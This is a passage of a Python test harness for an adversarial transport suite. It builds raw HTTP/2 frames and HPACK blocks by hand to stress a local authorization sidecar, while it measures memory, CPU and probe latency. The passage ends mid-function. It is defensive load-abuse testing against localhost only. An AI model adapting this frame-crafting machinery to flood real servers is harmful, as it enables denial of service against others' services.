"""Attack clients and measurements for the adversarial transport suite (tests/e2e/security/test_transport_*.py).

The suite attacks the sidecar's listeners themselves, not the decisions behind
them: a hostile peer on the gRPC port (extauthz's own HTTP/2 server, "lean", or
grpc.aio, "grpcio") or on the HTTP/1.1 ext_authz port ("http"). Every attack runs
against the real ``extauthz serve`` process and, while it runs, this module
measures what a user of the sidecar would notice:

- the sidecar's resident memory, sampled from ``/proc/PID/status`` every ~20 ms
  (:data:`RSS_LIMIT_MB`);
- its CPU (``utime + stime`` of ``/proc/PID/stat``) per megabyte the attacker
  wrote, counting exactly the bytes the sockets accepted (:data:`CPU_PER_MB`);
- the latency and answer of a probe Check sent every ~50 ms on a separate,
  well-behaved connection by a separate process (:class:`Prober`), so the
  attacker's own Python never delays the probe's clock (:data:`PROBE_LIMIT_MS`);
- how the attacker's connection ended: GOAWAY and its error code, a close
  without one, or not at all.

Frames are built by hand (a 9-byte header and a payload, RFC 9113 section 4.1);
header blocks are HPACK-encoded with the ``hpack`` package. The attacker follows
the protocol everywhere the attack class is not about breaking it: it reads the
server's SETTINGS, sends no frame over its SETTINGS_MAX_FRAME_SIZE, no DATA beyond
the windows it was granted (tracking SETTINGS_INITIAL_WINDOW_SIZE and every
WINDOW_UPDATE), and no more concurrent streams than SETTINGS_MAX_CONCURRENT_STREAMS
allows, so what is tested is the server's answer to abuse, not to a broken client.

Run as a module, it is the probe process: ``python -m tests.e2e.security.transport_harness
probe grpc|http PORT`` reads ``go`` and ``stop`` lines on stdin and answers each
``stop`` with the probes since ``go`` as one JSON line.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import hpack

REPO = Path(__file__).resolve().parents[3]

# --- acceptance ---------------------------------------------------------------------------------

RSS_LIMIT_MB = 200
"""The sidecar's peak resident memory during an attack stays under this."""
CPU_PER_MB = 1.0
"""Seconds of sidecar CPU per megabyte the attacker wrote, at most."""
CPU_FLOOR_S = 0.25
"""CPU every attack may cost whatever it sent: the probes themselves (~60 Checks in 3 s), the
loop's timers and the 10 ms granularity of /proc's clock ticks. Without it an attack of a few
hundred bytes (a violation, a trickle) would be judged by clock-tick noise. Sized for a 2-core
machine shared with other work."""
PROBE_LIMIT_MS = 500
"""Every probe is answered, with its normal answer, in less than this."""
ABORT_MB = 600
"""Past this RSS the attacker stops at once: the verdict is known, and the machine is shared."""
MB = 1 << 20

# --- the protocol -------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS, PADDED, PRIORITY_FLAG = 0x4, 0x8, 0x20
S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS = 0x1, 0x2, 0x3
S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = 0x4, 0x5, 0x6
CANCEL = 0x8
ERROR_CODES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
               0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
               0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}
DEFAULT_WINDOW = 65_535
DEFAULT_FRAME = 16_384
SYNC_SECONDS = 3.0
"""How long the attacker waits for the server to have read everything it sent (see :meth:`H2.sync`)."""
MAX_WINDOW = 2**31 - 1

CHECK = "/envoy.service.auth.v3.Authorization/Check"
UNKNOWN_METHOD = "/t.T/Nothing"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """One frame; ``length`` overrides the announced length (a frame whose payload is still to come)."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def grpc_message(body: bytes) -> bytes:
    return b"\x00" + len(body).to_bytes(4, "big") + body


def request_fields(path: str = CHECK, timeout: str | None = None,
                   extra: list[tuple[str, str]] | None = None) -> list[tuple[str, str]]:
    """A gRPC request's header list, as Envoy's gRPC client sends one."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "extauthz"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if timeout:
        fields.append(("grpc-timeout", timeout))
    return fields + (extra or [])


def check_request(path: str = "/v1/orders", token: str | None = None) -> bytes:
    """A serialised CheckRequest for ``GET path`` as Envoy sends it (the seed policy's proxy by context)."""
    from envoy.service.auth.v3 import external_auth_pb2

    request = external_auth_pb2.CheckRequest()
    http = request.attributes.request.http
    http.method, http.path, http.host, http.scheme, http.protocol, http.id = (
        "GET", path, "localhost:10000", "http", "HTTP/1.1", "1")
    headers = {":authority": "localhost:10000", ":method": "GET", ":path": path, ":scheme": "http"}
    if token:
        headers["authorization"] = f"Bearer {token}"
    for name, value in headers.items():
        http.headers[name] = value
    request.attributes.context_extensions["proxy"] = "orders-api"
    return bytes(request.SerializeToString())


def http_check(path: str = "/v1/orders", token: str | None = None, close: bool = False) -> bytes:
    """An HTTP/1.1 check request as Envoy's ext_authz ``http_service`` sends one (docs/transports.md)."""
    lines = [f"GET {path} HTTP/1.1", "host: localhost:10000", "content-length: 0", "x-envoy-internal: true",
             "x-extauthz-check: proxy=orders-api;scheme=http;length="]
    if token:
        lines.append(f"authorization: Bearer {token}")
    if close:
        lines.append("connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


# --- the sidecar --------------------------------------------------------------------------------

POLICY = """
providers:
  - name: idp
    issuer: ISSUER
    jwksUri: JWKS_URI
    audiences: [orders-api]
relationships:
  authzen:
    - name: hanging-pdp
      url: http://127.0.0.1:PDP_PORT
      routes: ["/slow/{id}"]
      timeoutMs: 500
proxies:
  - name: orders-api
    defaultRuleEffect: deny
    rules:
      - {effect: allow, path: {path: {pattern: "^/v1/"}}, notes: "any caller with a valid token"}
      - {effect: allow, path: {path: {pattern: "^/slow/"}}, authzen: {backend: hanging-pdp},
         notes: "asks a PDP that accepts connections and never answers"}
    filters:
      - path: {pattern: "^/v1/filtered"}
        methods: [GET]
        statuses: [200]
        defaultFilterOperation: destroy
        operations:
          - {effect: retain, jsonPath: {pattern: "^orders$"}}
"""
"""``/v1/...`` without a token is a 401 deny decided without any network lookup (the probe's
question); with the IdP's token it is an allow. An allow under ``/v1/filtered`` hands the response
phase the request's path, so its answer grows with the path (class 3's large answers).
``/slow/...`` waits for a PDP that never answers, up to its 500 ms budget."""


def rss_kb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError(f"no VmRSS for pid {pid}")


def cpu_seconds(pid: int) -> float:
    """utime + stime of the process, in seconds (fields 14 and 15 of /proc/PID/stat)."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class HangingPdp:
    """A listening socket that never accepts: connections complete in the kernel's backlog and wait forever."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1024)
        self.port = self.sock.getsockname()[1]

    def close(self) -> None:
        self.sock.close()


class Sidecar:
    """``extauthz serve`` on one gRPC server ("lean" or "grpcio"), with its HTTP/1.1 listener beside it."""

    def __init__(self, server: str, workdir: Path, idp: Any, pdp: HangingPdp) -> None:
        from extauthz.demo.processes import SidecarProcess, free_port

        self.server = server
        self.idp = idp
        self.grpc_port, self.http_port = free_port(), free_port()
        policy = workdir / f"policy-{server}.yaml"
        policy.write_text(POLICY.replace("JWKS_URI", idp.jwks_uri).replace("ISSUER", idp.issuer)
                          .replace("PDP_PORT", str(pdp.port)))
        env = {"EXTAUTHZ_GRPC_SERVER": "grpcio" if server == "grpcio" else "lean"}
        self.process = SidecarProcess(policy, self.grpc_port, env=env, log_path=workdir / f"sidecar-{server}.log",
                                      extra=["--http-address", f"127.0.0.1:{self.http_port}"])
        self.probers: dict[str, Prober] = {}
        self.started_kb = 0

    def start(self) -> Sidecar:
        self.process.start()
        self.warm_up()
        self.started_kb = rss_kb(self.pid)
        return self

    def warm_up(self) -> None:
        """Keys fetched, import paths and buffers paid for before any baseline is read."""
        token = self.idp.token(sub="user-1")
        for path, auth in (("/v1/orders", None), ("/v1/orders", token)):
            with H2(self.grpc_port) as conn:
                conn.request(check_request(path, auth))
                conn.wait_streams(5)
            with socket.create_connection(("127.0.0.1", self.http_port), 5) as s:
                s.sendall(http_check(path, auth, close=True))
                while s.recv(65536):
                    pass

    @property
    def pid(self) -> int:
        assert self.process.process is not None
        return self.process.process.pid

    def alive(self) -> bool:
        return self.process.process is not None and self.process.process.poll() is None

    def prober(self, kind: str) -> Prober:
        if kind not in self.probers:
            self.probers[kind] = Prober(kind, self.grpc_port if kind == "grpc" else self.http_port)
        return self.probers[kind]

    def token(self, **claims: Any) -> str:
        return str(self.idp.token(sub="user-1", **claims))

    def stop(self) -> None:
        for prober in self.probers.values():
            prober.close()
        self.probers.clear()
        self.process.stop()


class Sidecars:
    """One running sidecar per server, restarted when an attack left it grown, dead or holding connections.

    Python rarely gives memory back to the system: after an attack that grew the
    heap, the next attack's peak would include it, so a sidecar whose RSS grew by
    more than :data:`REUSE_GROWTH_MB` since it started is replaced.
    """

    REUSE_GROWTH_MB = 30

    def __init__(self, workdir: Path) -> None:
        from extauthz.demo.idp import IdentityProvider

        self.workdir = workdir
        self.idp = IdentityProvider().__enter__()
        self.pdp = HangingPdp()
        self.running: dict[str, Sidecar] = {}

    def get(self, server: str) -> Sidecar:
        current = self.running.get(server)
        if current is not None and (not current.alive()
                                    or rss_kb(current.pid) - current.started_kb > self.REUSE_GROWTH_MB * 1024):
            current.stop()
            current = None
        if current is None:
            current = self.running[server] = Sidecar(server, self.workdir, self.idp, self.pdp).start()
        return current

    def close(self) -> None:
        for sidecar in self.running.values():
            sidecar.stop()
        self.running.clear()
        self.pdp.close()
        self.idp.__exit__(None, None, None)


# --- the probe process --------------------------------------------------------------------------

PROBE_INTERVAL = 0.05
PROBE_TIMEOUT = 2.0


class Prober:
    """A separate process sending a probe every ~50 ms while told to, on its own well-behaved connection."""

    def __init__(self, kind: str, port: int) -> None:
        self.kind = kind
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tests.e2e.security.transport_harness", "probe", kind, str(port)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=REPO, text=True)
        assert self.process.stdout is not None
        ready = self.process.stdout.readline()
        if ready.strip() != "ready":
            raise RuntimeError(f"the {kind} prober did not start: {ready!r}")

    def go(self) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write("go\n")
        self.process.stdin.flush()

    def stop(self) -> list[dict[str, Any]]:
        assert self.process.stdin is not None and self.process.stdout is not None
        self.process.stdin.write("stop\n")
        self.process.stdin.flush()
        line = self.process.stdout.readline()
        if not line:
            raise RuntimeError(f"the {self.kind} prober died")
        probes: list[dict[str, Any]] = json.loads(line)
        return probes

    def close(self) -> None:
        with contextlib.suppress(OSError):
            if self.process.stdin is not None:
                self.process.stdin.close()
        try:
            self.process.wait(5)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(5)


def _grpc_probe(port: int) -> Callable[[], str]:
    import grpc
    from envoy.service.auth.v3 import external_auth_pb2

    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    check = channel.unary_unary(CHECK)
    message = check_request()

    def probe() -> str:
        try:
            raw = check(message, timeout=PROBE_TIMEOUT)
        except grpc.RpcError as exc:
            return f"grpc {exc.code().name}"
        answer = external_auth_pb2.CheckResponse.FromString(raw)
        if answer.HasField("denied_response"):
            return f"deny {answer.denied_response.status.code}"
        return f"status {answer.status.code}"

    return probe


def _http_probe(port: int) -> Callable[[], str]:
    import http.client

    state: dict[str, Any] = {"conn": None}

    def probe() -> str:
        if state["conn"] is None:
            state["conn"] = http.client.HTTPConnection("127.0.0.1", port, timeout=PROBE_TIMEOUT)
        conn = state["conn"]
        try:
            conn.request("GET", "/v1/orders", headers={
                "host": "localhost:10000", "content-length": "0", "x-envoy-internal": "true",
                "x-extauthz-check": "proxy=orders-api;scheme=http;length="})
            response = conn.getresponse()
            response.read()
            if response.will_close:
                conn.close()
                state["conn"] = None
            return f"deny {response.status}" if response.status != 200 else "allow 200"
        except (OSError, http.client.HTTPException) as exc:
            conn.close()
            state["conn"] = None
            return f"error {type(exc).__name__}"

    return probe


def _probe_main(kind: str, port: int) -> None:
    probe = _grpc_probe(port) if kind == "grpc" else _http_probe(port)
    probe()  # the connection is made (and warm) before the first attack
    commands: list[str] = []
    lock = threading.Condition()

    def read_commands() -> None:
        for line in sys.stdin:
            with lock:
                commands.append(line.strip())
                lock.notify()
        with lock:
            commands.append("exit")
            lock.notify()

    threading.Thread(target=read_commands, daemon=True).start()
    print("ready", flush=True)
    while True:
        with lock:
            while not commands:
                lock.wait()
            command = commands.pop(0)
        if command == "exit":
            return
        if command != "go":
            continue
        probes: list[dict[str, Any]] = []
        while True:
            started = time.monotonic()
            answer = probe()
            took = time.monotonic() - started
            probes.append({"ms": round(took * 1000, 1), "answer": answer})
            with lock:
                if commands:
                    break
            time.sleep(max(0.0, PROBE_INTERVAL - took))
        with lock:
            if commands[0] == "stop":
                commands.pop(0)
        print(json.dumps(probes), flush=True)


# --- measuring ----------------------------------------------------------------------------------


@dataclass
class Measured:
    """What one attack cost the sidecar and its well-behaved neighbour."""

    sent: int = 0
    """Bytes the attacker's sockets accepted, over all its connections."""
    rss_before_mb: float = 0.0
    rss_peak_mb: float = 0.0
    cpu_s: float = 0.0
    seconds: float = 0.0
    probes: list[dict[str, Any]] = field(default_factory=list)
    normal: str = ""
    """The probe's answer before the attack: every probe during it must get the same."""
    alive: bool = True

    @property
    def cpu_per_mb(self) -> float:
        return self.cpu_s / max(self.sent / MB, 1e-9)

    @property
    def cpu_budget(self) -> float:
        return CPU_PER_MB * self.sent / MB + CPU_FLOOR_S

    @property
    def probe_max_ms(self) -> float:
        return max((p["ms"] for p in self.probes), default=0.0)

    @property
    def odd_probes(self) -> list[dict[str, Any]]:
        return [p for p in self.probes if p["answer"] != self.normal]

    def misses(self) -> list[str]:
        """The acceptance bounds this attack broke (empty when it held)."""
        out = []
        if not self.alive:
            out.append("sidecar died")
        if self.rss_peak_mb >= RSS_LIMIT_MB:
            out.append(f"RSS >= {RSS_LIMIT_MB} MB")
        if self.cpu_s > self.cpu_budget:
            out.append(f"CPU > {CPU_PER_MB:g} s/MB")
        if self.probe_max_ms >= PROBE_LIMIT_MS:
            out.append(f"a probe took >= {PROBE_LIMIT_MS} ms")
        if self.odd_probes or not self.probes:
            out.append("a probe got another answer")
        return out

    def summary(self) -> str:
        return (f"sent {self.sent / MB:.2f} MB in {self.seconds:.2f} s; RSS {self.rss_before_mb:.0f} -> peak "
                f"{self.rss_peak_mb:.0f} MB; CPU {self.cpu_s:.2f} s ({self.cpu_per_mb:.3f} s/MB, budget "
                f"{self.cpu_budget:.2f} s); probes {len(self.probes)}, max {self.probe_max_ms:.0f} ms, "
                f"odd {self.odd_probes[:3]}")


class Measure:
    """Samples the sidecar while an attack runs; ``abort`` tells the attacker to stop (:data:`ABORT_MB`)."""

    def __init__(self, sidecar: Sidecar, probe: str = "grpc") -> None:
        self.sidecar = sidecar
        self.prober = sidecar.prober(probe)
        self.result = Measured()
        self.abort = threading.Event()
        self._done = threading.Event()
        self._pid = sidecar.pid

    def _sample(self) -> None:
        while not self._done.wait(0.02):
            try:
                kb = rss_kb(self._pid)
            except (OSError, RuntimeError):
                self.result.alive = False
                self.abort.set()
                return
            self.result.rss_peak_mb = max(self.result.rss_peak_mb, kb / 1024)
            if kb / 1024 > ABORT_MB:
                self.abort.set()

    def __enter__(self) -> Measure:
        self.prober.go()
        first = self.prober.stop()  # one probe's worth before the attack: its answer is the normal one
        self.result.normal = first[0]["answer"] if first else ""
        self.result.rss_before_mb = self.result.rss_peak_mb = rss_kb(self._pid) / 1024
        self._cpu = cpu_seconds(self._pid)
        self._sampler = threading.Thread(target=self._sample, daemon=True)
        self._sampler.start()
        self.prober.go()
        self._started = time.monotonic()
        return self

    def __exit__(self, *exc: object) -> None:
        time.sleep(0.2)  # a server still chewing on what it was sent shows in the probes
        self.result.seconds = time.monotonic() - self._started
        self.result.probes = self.prober.stop()
        self._done.set()
        self._sampler.join()
        self.result.alive = self.result.alive and self.sidecar.alive()
        if self.result.alive:
            self.result.cpu_s = cpu_seconds(self._pid) - self._cpu
            self.result.rss_peak_mb = max(self.result.rss_peak_mb, rss_kb(self._pid) / 1024)

    def stop_at(self, deadline: float) -> bool:
        return self.abort.is_set() or time.monotonic() >= deadline


# --- a raw HTTP/2 client ------------------------------------------------------------------------


class H2:
    """A client connection speaking frames as written, keeping the server's settings and windows.

    ``sent`` counts every byte the socket accepted. Incoming frames are parsed
    by :meth:`pump`: SETTINGS are recorded and acknowledged, WINDOW_UPDATEs
    credited, response header blocks decoded, GOAWAY recorded.
    """

    def __init__(self, port: int, client_settings: tuple[tuple[int, int], ...] = (), handshake: bool = True,
                 timeout: float = 5.0) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout)
        self.sock.setblocking(False)
        self.sent = 0
        self.inbuf = bytearray()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self.server: dict[int, int] = {}
        self.server_settings_seen = False
        self.conn_window = DEFAULT_WINDOW
        self.stream_windows: dict[int, int] = {}
        self.goaway: int | None = None
        self.goaway_debug = b""
        self.closed = False
        self.reset = False
        """The connection ended with a TCP reset (the server closed with unread input, or aborted)."""
        self.next_stream = 1
        self.open_streams: set[int] = set()
        self.responses: dict[int, list[list[tuple[bytes, bytes]]]] = {}
        self.data: dict[int, int] = {}
        self.ended: set[int] = set()
        self.resets: dict[int, int] = {}
        self.frames_in = 0
        self.acks_in = 0
        self.ping_acks: set[bytes] = set()
        self._block: tuple[int, bytearray] | None = None
        self._end_after_block = False
        self.in_block = False
        """A header block of ours is open: nothing else may go out (RFC 9113, 6.10), so replies wait."""
        self.deferred: list[bytes] = []
        self._writing = False
        self.give_credit = True
        """Give back the window of DATA received at once (False: a peer that grants no window)."""
        if handshake:
            self.write(PREFACE + settings(*client_settings))
            self.wait(lambda: self.server_settings_seen, timeout)

    def __enter__(self) -> H2:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    # settings the server announced
    @property
    def max_frame(self) -> int:
        return self.server.get(S_MAX_FRAME_SIZE, DEFAULT_FRAME)

    @property
    def initial_window(self) -> int:
        return self.server.get(S_INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)

    @property
    def max_streams(self) -> int:
        return self.server.get(S_MAX_CONCURRENT_STREAMS, 1 << 31)

    @property
    def max_header_list(self) -> int:
        return self.server.get(S_MAX_HEADER_LIST_SIZE, 1 << 31)

    def window(self, stream: int) -> int:
        return min(self.conn_window, self.stream_windows.get(stream, 0))

    # --- out ---
    def write(self, data: bytes | bytearray | memoryview, deadline: float | None = None, read: bool = True) -> int:
        """Write all of ``data`` unless the deadline passes or the connection ends; returns bytes accepted.

        While the socket is full, what the server sends is read (unless ``read`` is
        False: an attacker that never reads), so a server answering as it goes
        cannot deadlock the write.
        """
        view = memoryview(data)
        done = 0
        end = deadline if deadline is not None else time.monotonic() + 5
        outermost = not self._writing
        self._writing = True
        try:
            done = self._write(view, end, read)
        finally:
            if outermost:
                self._writing = False
        if outermost and self.deferred and not self.in_block and not self.closed:
            replies, self.deferred = b"".join(self.deferred), []
            self.write(replies, end, read)
        return done

    def _write(self, view: memoryview, end: float, read: bool) -> int:
        done = 0
        while done < len(view) and not self.closed:
            try:
                n = self.sock.send(view[done:])
            except BlockingIOError:
                n = 0
            except OSError as exc:
                self.closed = True
                self.reset = isinstance(exc, ConnectionResetError | BrokenPipeError)
                break
            done += n
            self.sent += n
            if done < len(view):
                remaining = end - time.monotonic()
                if remaining <= 0:
                    break
                readers = [self.sock] if read else []
                readable, _, _ = select.select(readers, [self.sock], [], min(remaining, 0.05))
                if readable:
                    self.pump(0)
        return done

    def new_stream(self) -> int:
        stream = self.next_stream
        self.next_stream += 2
        self.stream_windows[stream] = self.initial_window
        self.open_streams.add(stream)
        return stream

    def headers(self, fields: list[tuple[str, str]], end_stream: bool = False, stream: int | None = None,
                block: bytes | None = None) -> tuple[int, bytes]:
        """A HEADERS frame (CONTINUATIONs if the block is over the server's max frame size)."""
        stream = self.new_stream() if stream is None else stream
        if block is None:
            block = self.encoder.encode(fields)
        chunks = [block[i:i + self.max_frame] for i in range(0, len(block), self.max_frame)] or [b""]
        out = bytearray()
        for i, chunk in enumerate(chunks):
            last = END_HEADERS if i == len(chunks) - 1 else 0
            if i == 0:
                out += frame(HEADERS, last | (END_STREAM if end_stream else 0), stream, chunk)
            else:
                out += frame(CONTINUATION, last, stream, chunk)
        return stream, bytes(out)

    def data_frames(self, stream: int, body: bytes, end_stream: bool) -> bytes:
        """DATA frames of at most the max frame size; the caller has checked the windows."""
        out = bytearray()
        chunks = [body[i:i + self.max_frame] for i in range(0, len(body), self.max_frame)] or [b""]
        for i, chunk in enumerate(chunks):
            out += frame(DATA, END_STREAM if end_stream and i == len(chunks) - 1 else 0, stream, chunk)
        self.conn_window -= len(body)
        self.stream_windows[stream] = self.stream_windows.get(stream, 0) - len(body)
        return bytes(out)

    def send_body(self, stream: int, body: bytes, end_stream: bool, deadline: float) -> int:
        """Send ``body`` as far as the windows allow, waiting for credit until the deadline; returns bytes sent."""
        done = 0
        while done < len(body) and not self.closed:
            if not self.wait(lambda: self.window(stream) > 0, max(0.0, deadline - time.monotonic())):
                break
            piece = body[done:done + self.window(stream)]
            last = end_stream and done + len(piece) == len(body)
            self.write(self.data_frames(stream, piece, last), deadline)
            done += len(piece)
        if end_stream and not body:
            self.write(frame(DATA, END_STREAM, stream))
        return done

    def request(self, message: bytes, path: str = CHECK, timeout: str | None = None) -> int:
        """A whole unary call, following the windows; returns its stream."""
        stream, head = self.headers(request_fields(path, timeout))
        self.write(head)
        self.send_body(stream, grpc_message(message), True, time.monotonic() + 5)
        return stream

    # --- in ---
    def pump(self, timeout: float) -> None:
        """Read and act on what is there, waiting up to ``timeout`` for the first bytes (0: no wait)."""
        end = time.monotonic() + timeout
        got = False
        while not self.closed:
            remaining = 0.0 if got else max(0.0, end - time.monotonic())
            readable, _, _ = select.select([self.sock], [], [], remaining)
            if not readable:
                break
            try:
                chunk = self.sock.recv(1 << 20)
            except BlockingIOError:
                continue
            except OSError as exc:
                self.closed = True
                self.reset = isinstance(exc, ConnectionResetError)
                break
            if not chunk:
                self.closed = True
                break
            self.inbuf += chunk
            self._frames()
            got = True
        if self.deferred and not self._writing and not self.in_block and not self.closed:
            replies, self.deferred = b"".join(self.deferred), []
            self.write(replies)

    def wait(self, condition: Callable[[], bool], timeout: float) -> bool:
        end = time.monotonic() + timeout
        while not condition():
            if self.closed or time.monotonic() >= end:
                return condition()
            self.pump(min(0.05, max(0.0, end - time.monotonic())))
        return True

    def wait_streams(self, timeout: float, streams: set[int] | None = None) -> bool:
        pending = set(self.open_streams if streams is None else streams)
        return self.wait(lambda: pending <= (self.ended | set(self.resets)), timeout)

    def sync(self, timeout: float = SYNC_SECONDS) -> bool:
        """A PING after everything sent, waiting for its answer: the server has read all that came before.

        A flood written in a quarter of a second may still sit in the kernel's
        buffers; the measurement must include the server's work on all of it.
        """
        marker = os.urandom(8)
        self.write(frame(PING, 0, 0, marker))
        return self.wait(lambda: marker in self.ping_acks, timeout)

    def wait_end(self, timeout: float) -> str:
        """Read until the server closes the connection (or ``timeout``); how it ended."""
        self.wait(lambda: self.closed, timeout)
        return self.outcome()

    def outcome(self) -> str:
        if self.goaway is not None:
            name = ERROR_CODES.get(self.goaway, hex(self.goaway))
            return f"GOAWAY {name}" + ("" if self.closed else " (left open)")
        if self.closed:
            return "reset without GOAWAY" if self.reset else "closed without GOAWAY"
        return "stayed open"

    def status(self, stream: int) -> int | None:
        """The grpc-status of a finished stream."""
        for block in self.responses.get(stream, []):
            for name, value in block:
                if name == b"grpc-status":
                    return int(value)
        return None

    def _reply(self, data: bytes) -> None:
        """A control reply (SETTINGS or PING acknowledgement, credit), held while our header block is open."""
        self.deferred.append(data)  # sent once no frame of ours is half written and no read is half parsed

    def _frames(self) -> None:
        buf = self.inbuf
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            stream = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self.frames_in += 1
            self._on_frame(kind, flags, stream, payload)
        del buf[:pos]

    def _on_frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS:
            if flags & ACK:
                self.acks_in += 1
                return
            for offset in range(0, len(payload) - 5, 6):
                key, value = struct.unpack_from(">HI", payload, offset)
                if key == S_INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_window
                    for s in self.stream_windows:
                        self.stream_windows[s] += delta
                elif key == S_HEADER_TABLE_SIZE:
                    self.encoder.header_table_size = value
                self.server[key] = value
            self.server_settings_seen = True
            self._reply(frame(SETTINGS, ACK, 0))
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += increment
            elif stream in self.stream_windows:
                self.stream_windows[stream] += increment
        elif kind == PING:
            if flags & ACK:
                self.ping_acks.add(payload)
            else:  # the server's own PING (grpc.aio measures bandwidth with them): answered, as a client must
                self._reply(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.goaway_debug = payload[8:]
        elif kind == RST_STREAM and len(payload) == 4:
            self.resets[stream] = int.from_bytes(payload, "big")
            self.open_streams.discard(stream)
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                if flags & PADDED:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & PRIORITY_FLAG:
                    payload = payload[5:]
                self._block = (stream, bytearray(payload))
                self._end_after_block = bool(flags & END_STREAM)
            elif self._block is not None:
                self._block[1].extend(payload)
            if flags & END_HEADERS and self._block is not None:
                sid, block = self._block
                self._block = None
                self.responses.setdefault(sid, []).append(list(self.decoder.decode(bytes(block), raw=True)))
                if self._end_after_block:
                    self.ended.add(sid)
                    self.open_streams.discard(sid)
        elif kind == DATA:
            self.data[stream] = self.data.get(stream, 0) + len(payload)
            if flags & END_STREAM:
                self.ended.add(stream)
                self.open_streams.discard(stream)
            if payload and self.give_credit:  # a well-behaved reader gives the credit back at once
                self._reply(window_update(0, len(payload)) + window_update(stream, len(payload)))


def fresh_connection_served(port: int, timeout: float = 1.0) -> bool:
    """Does a new, well-behaved connection get a Check answered now?"""
    try:
        with H2(port, timeout=timeout) as conn:
            stream = conn.request(check_request())
            conn.wait_streams(timeout, {stream})
            return conn.status(stream) == 0
    except OSError:
        return False


def fresh_http_served(port: int, timeout: float = 1.0) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout) as s:
            s.settimeout(timeout)
            s.sendall(http_check())
            return s.recv(64).startswith(b"HTTP/1.1 401")
    except OSError:
        return False


@contextlib.contextmanager
def all_closed(conns: list[Any]) -> Iterator[list[Any]]:
    try:
        yield conns
    finally:
        for conn in conns:
            conn.close()


# --- header blocks by hand -----------------------------------------------------------------------


def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
    """An HPACK integer with a ``prefix``-bit prefix (RFC 7541, 5.1), ``first`` holding the pattern bits."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes, never_indexed: bool = False) -> bytes:
    """A literal field without indexing (or never indexed), new name, no Huffman: it changes no table."""
    return (hpack_int(0, 4, 0x10 if never_indexed else 0x00) + hpack_int(len(name), 7) + name
            + hpack_int(len(value), 7) + value)


def padded_block(fields: list[tuple[str, str]], list_size: int, tag: str) -> bytes:
    """A request block of literal fields whose header list size (RFC 9113, 6.5.2) is about ``list_size``.

    Padding fields carry ``tag`` so every block is distinct; nothing is indexed, so
    a server's decoder table is left as it was and the same bytes would decode the same.
    """
    block = bytearray()
    size = 0
    for name, value in fields:
        block += literal(name.encode(), value.encode())
        size += len(name) + len(value) + 32
    i = 0
    while size + 64 < list_size:
        name = f"x-pad-{i}".encode()
        room = min(4000, list_size - size - 32 - len(name) - 16)
        value = (tag + "-").encode() + b"p" * max(0, room - len(tag) - 1)
        block += literal(name, value)
